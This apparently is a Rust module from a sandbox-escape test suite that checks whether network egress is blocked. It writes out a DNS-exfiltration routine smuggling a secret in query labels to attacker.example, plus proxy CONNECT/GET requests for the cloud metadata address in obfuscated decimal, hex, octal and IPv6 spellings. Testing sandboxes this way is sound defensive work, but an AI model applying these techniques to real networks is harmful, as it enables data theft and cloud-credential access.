//! Attacks on the doors themselves: what a resolver and a proxy are for, used to carry something out or to get somewhere else.
//!
//! Where the sandbox has no doors there is nobody to ask, which is a refusal too. The arena has a resolver that answers
//! everything and a proxy that goes everywhere, as most networks do.

use std::io::{self, BufRead, BufReader, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use crate::outcome::{Outcome, Spelling};
use crate::{Attack, Control, Family};

pub(crate) const ATTACKS: &[Attack] = &[
    attack("S-26", "carry a secret out in a name, by DNS", names),
    attack("S-24c", "reach an address outside, through the proxy", through_the_proxy),
];

const fn attack(id: &'static str, title: &'static str, act: fn() -> Outcome) -> Attack {
    Attack { id, title, family: Family::Network, control: Control::Arena, act }
}

/// The address of a sandbox's own doors, and the one where clouds keep their resolver and their secrets.
const ASKED: [Ipv4Addr; 2] = [Ipv4Addr::LOCALHOST, METADATA];

/// The address the arena gives itself.
pub(crate) const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);

const DNS_PORT: u16 = 53;
const PROXY_PORT: u16 = 3128;

/// How long an answer may take: stand-ins and doors are on this machine.
const ANSWER_WITHIN: Duration = Duration::from_millis(500);

/// Record types that carry a name out, or bytes in (RFC 1035, RFC 3596, RFC 9460).
const TYPES: [(&str, u16); 8] =
    [("A", 1), ("NS", 2), ("NULL", 10), ("MX", 15), ("TXT", 16), ("AAAA", 28), ("HTTPS", 65), ("ANY", 255)];

/// Sixty-three letters, which is as much as one label of a name may hold.
const SECRET: &str = "c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV";

fn names() -> Outcome {
    let short = format!("{SECRET}.attacker.example");
    let long = format!("{SECRET}.{SECRET}.{SECRET}.attacker.example");
    Outcome::of(ASKED.into_iter().flat_map(|server| {
        let (short, long) = (short.clone(), long.clone());
        TYPES.into_iter().flat_map(move |(name, kind)| {
            [("", &short), (" long", &long)].map(|(length, asked)| {
                Spelling::new(format!("{name}{length} at {server}"), resolve(server, asked, kind))
            })
        })
    }))
}

/// Asks a resolver; an answer that holds a record is a way out.
fn resolve(server: Ipv4Addr, name: &str, kind: u16) -> io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(ANSWER_WITHIN))?;
    socket.connect((server, DNS_PORT))?;
    socket.send(&question(name, kind))?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer)?;
    match answer.get(6..8).filter(|_| length > 12) {
        Some([0, 0]) | None => Err(io::Error::other("an answer without a record")),
        Some(_) => Ok(()),
    }
}

/// One question in the form of RFC 1035, section 4.
fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).unwrap_or(63));
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.push(0);
    bytes.extend_from_slice(&kind.to_be_bytes());
    bytes.extend_from_slice(&[0, 1]);
    bytes
}

/// Metadata in every spelling an address has, loopback, private networks, and a host that nobody granted.
const TARGETS: [&str; 11] = [
    "169.254.169.254:80",
    "2852039166:80",
    "0xa9fea9fe:80",
    "0251.0376.0251.0376:80",
    "[::ffff:169.254.169.254]:80",
    "[fd00:ec2::254]:80",
    "metadata.google.internal:80",
    "127.0.0.1:22",
    "localhost:22",
    "10.0.0.1:443",
    "attacker.example:443",
];

fn through_the_proxy() -> Outcome {
    Outcome::of(ASKED.into_iter().flat_map(|proxy| {
        TARGETS.into_iter().flat_map(move |target| {
            let connect = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
            let absolute = format!("GET http://{target}/latest/ HTTP/1.1\r\nHost: {target}\r\n\r\n");
            [("CONNECT", connect), ("GET", absolute)]
                .map(|(how, request)| Spelling::new(format!("{how} {target} by {proxy}"), ask(proxy, &request)))
        })
    }))
}

/// Asks a proxy for something; a status of 2xx is a way out.
fn ask(proxy: Ipv4Addr, request: &str) -> io::Result<()> {
    let mut stream = TcpStream::connect_timeout(&SocketAddr::from((proxy, PROXY_PORT)), ANSWER_WITHIN)?;
    stream.set_read_timeout(Some(ANSWER_WITHIN))?;
    stream.write_all(request.as_bytes())?;
    let mut status = String::new();
    BufReader::new(stream).read_line(&mut status)?;
    if status.split(' ').nth(1).is_some_and(|code| code.starts_with('2')) {
        Ok(())
    } else {
        Err(io::Error::other(format!("answered `{}`", status.trim_end())))
    }
}

/// The resolver and the proxy of an ordinary network, for the arena: they last as long as its process.
pub(crate) fn stand_in() -> io::Result<()> {
    let resolver = UdpSocket::bind((METADATA, DNS_PORT))?;
    let proxy = TcpListener::bind((METADATA, PROXY_PORT))?;
    std::thread::spawn(move || {
        let mut question = [0; 512];
        while let Ok((length, from)) = resolver.recv_from(&mut question) {
            let mut answer = question.get(..length).unwrap_or_default().to_vec();
            // A response, and it holds one record; nobody here reads what it says.
            if let Some(counts) = answer.get_mut(2..8) {
                counts.copy_from_slice(&[0x81, 0x80, 0, 1, 0, 1]);
            }
            let _gone = resolver.send_to(&answer, from);
        }
    });
    std::thread::spawn(move || {
        for mut stream in proxy.incoming().flatten() {
            let _gone = stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n");
        }
    });
    Ok(())
}
